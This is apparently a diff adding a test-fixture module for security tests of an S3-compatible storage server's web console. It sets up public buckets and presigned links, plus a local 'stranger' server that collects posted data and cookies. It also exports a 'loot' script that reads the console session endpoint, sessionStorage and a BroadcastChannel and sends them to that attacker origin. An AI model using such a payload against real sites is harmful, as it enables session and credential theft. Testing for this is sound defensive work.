@@ -1,0 +1,93 @@
+// What an attacker has: buckets to put objects into, addresses of them, and a web server on another
+// port of the same machine, which takes down everything that it is told.
+import { createServer } from "node:http";
+import {
+  CreateBucketCommand,
+  DeletePublicAccessBlockCommand,
+  PutBucketPolicyCommand,
+  PutObjectCommand,
+  S3Client,
+} from "@aws-sdk/client-s3";
+import { SignatureV4 } from "@smithy/signature-v4";
+import { REGION, ROOT_KEYS } from "./server.mjs";
+
+const PRESIGNED_S = 600;
+
+/** A bucket that anybody may read, and the ways to its objects. */
+export async function openBucket(server, name) {
+  const settings = { endpoint: server.origin, region: REGION, credentials: ROOT_KEYS, forcePathStyle: true };
+  const s3 = new S3Client(settings);
+  await s3.send(new CreateBucketCommand({ Bucket: name, CreateBucketConfiguration: { LocationConstraint: REGION } }));
+  await s3.send(new DeletePublicAccessBlockCommand({ Bucket: name }));
+  const allow = (...Action) => {
+    const statement = { Effect: "Allow", Principal: "*", Action, Resource: `arn:aws:s3:::${name}/*` };
+    const Policy = JSON.stringify({ Version: "2012-10-17", Statement: [statement] });
+    return s3.send(new PutBucketPolicyCommand({ Bucket: name, Policy }));
+  };
+  await allow("s3:GetObject");
+  return {
+    /** Sets what anybody may do with its objects. */
+    allow,
+    put: (Key, ContentType, Body) => s3.send(new PutObjectCommand({ Bucket: name, Key, ContentType, Body })),
+    /** Address of an object without a signature. */
+    path: (key) => `http://localhost:${server.port}/${name}/${key}`,
+    virtualHost: (key) => `http://${name}.localhost:${server.port}/${key}`,
+    /** The same with a signature; `query` is signed, too. */
+    async presigned(address, query = {}) {
+      const { protocol, hostname, port, host, pathname } = new URL(address);
+      const { sha256 } = s3.config;
+      const signer = new SignatureV4({ service: "s3", region: REGION, credentials: ROOT_KEYS, sha256, uriEscapePath: false });
+      const headers = { host, "x-amz-content-sha256": "UNSIGNED-PAYLOAD" };
+      const request = { method: "GET", protocol, hostname, port: Number(port), path: pathname, query, headers };
+      const signed = await signer.presign(request, { expiresIn: PRESIGNED_S });
+      // A blank is `%20` in what is signed, never `+`.
+      return `${address}?${new URLSearchParams(signed.query).toString().replaceAll("+", "%20")}`;
+    },
+  };
+}
+
+/** A web application of somebody else at another port. `pages` has texts by path. */
+export async function startStranger(pages = {}) {
+  const told = [];
+  const cookies = [];
+  const server = createServer(async (request, response) => {
+    if (request.headers.cookie) cookies.push(request.headers.cookie);
+    const { pathname, searchParams } = new URL(request.url, "http://stranger");
+    if (pathname === "/told") {
+      let body = searchParams.get("text") ?? "";
+      for await (const bytes of request) body += bytes;
+      told.push(body);
+    }
+    const page = pages[pathname];
+    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+    response.end(page ?? "");
+  });
+  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return {
+    origin: `http://localhost:${server.address().port}`,
+    pages,
+    /** What reached it. */
+    told,
+    /** The `Cookie` headers that it was sent. */
+    cookies,
+    stop: () =>
+      new Promise((resolve) => {
+        server.close(resolve);
+        server.closeAllConnections();
+      }),
+  };
+}
+
+/** A script that tells the stranger that it runs, and all it can get hold of. */
+export const loot = (stranger) => `
+  document.documentElement?.setAttribute("data-ran", "");
+  const tell = (text) => fetch("${stranger.origin}/told", { method: "POST", mode: "no-cors", body: text });
+  tell("ran at " + location.href);
+  fetch("/_console/session").then((answer) => answer.text()).then(tell, () => undefined);
+  try {
+    tell("storage " + JSON.stringify(sessionStorage));
+    const tabs = new BroadcastChannel("shoseki.session");
+    tabs.onmessage = ({ data }) => tell("heard " + JSON.stringify(data));
+    tabs.postMessage({ kind: "asks" });
+  } catch {}
+`;
